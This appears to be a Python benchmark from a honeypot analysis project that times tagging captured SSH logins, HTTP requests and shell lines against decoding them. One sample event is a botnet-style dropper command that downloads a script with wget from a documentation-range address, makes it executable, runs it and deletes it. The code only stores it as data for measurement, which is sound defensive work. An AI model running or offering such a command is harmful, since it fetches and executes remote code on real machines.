"""This module measures what tagging events with techniques costs, in CPU time beside decoding the same events.

Run: ``python -m benchmarks.techniques``.
"""

import time
from collections.abc import Sequence

from decnet_actors.analysis.techniques import loader
from decnet_actors.analysis.techniques.study import tagged
from decnet_actors.analysis.techniques.windows import Windows
from decnet_actors.domain.codec import decode_fact, encode_fact
from decnet_actors.domain.facts import CredentialSeen, Fact, HttpRequestSeen, ShellCommandSeen
from decnet_actors.domain.records import Entry, Record

COUNT = 5_000
ROUNDS = 3
NASTY = "a=$(echo " * 200 + "'" * 1000 + "?*[" * 1000


def log_in(number: int) -> Fact:
    return CredentialSeen(user=f"user{number % 50}", secret=b"%d" % number, mechanism="ssh password")


def request(number: int) -> Fact:
    headers = ((b"Host", b"192.0.2.1"), (b"User-Agent", b"Mozilla/5.0 (X11; Linux x86_64)"), (b"Accept", b"*/*"))
    target = f"/index.php?page={number}&q=a%20b"
    return HttpRequestSeen(
        method="GET",
        target=target,
        version="HTTP/1.1",
        headers=headers,
        body=b"",
        body_size=0,
        body_sha256="",
        status=404,
    )


def line(_number: int) -> Fact:
    text = "cd /tmp || cd /var/run; wget http://198.51.100.1/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh"
    return ShellCommandSeen(line=text, interactive=True)


def nasty(_number: int) -> Fact:
    return ShellCommandSeen(line=NASTY, interactive=True)


def entries(facts: Sequence[Fact]) -> list[Entry]:
    return [
        Entry(
            seq=number,
            record=Record(
                id=f"{number:032x}",
                time=float(number),
                host="h",
                decky="d",
                service="ssh",
                fact=fact,
                session="s",
                source=f"198.51.100.{number % 200}",
            ),
        )
        for number, fact in enumerate(facts, 1)
    ]


def seconds(work: Sequence[Entry]) -> float:
    rules, windows = loader.load(), Windows()
    begun = time.process_time()
    for entry in work:
        tagged(entry, rules, {}, windows)
    return (time.process_time() - begun) / len(work)


def decoding(fact: Fact) -> float:
    kind, data = type(fact).__name__, encode_fact(fact)
    begun = time.process_time()
    for _ in range(COUNT):
        decode_fact(kind, data)
    return (time.process_time() - begun) / COUNT


def main() -> None:
    print("| event | CPU each | times decoding it |\n|---|---|---|")
    for name, make, count in (
        ("log-in", log_in, COUNT),
        ("HTTP request", request, COUNT),
        ("shell line of six commands", line, COUNT),
        ("shell line made to be slow, 4.9 KB", nasty, 100),
    ):
        work = entries([make(number) for number in range(count)])
        each = min(seconds(work) for _ in range(ROUNDS))
        base = min(decoding(make(1)) for _ in range(ROUNDS))
        print(f"| {name} | {each * 1e6:.0f} µs | {each / base:.0f} |")


if __name__ == "__main__":
    main()
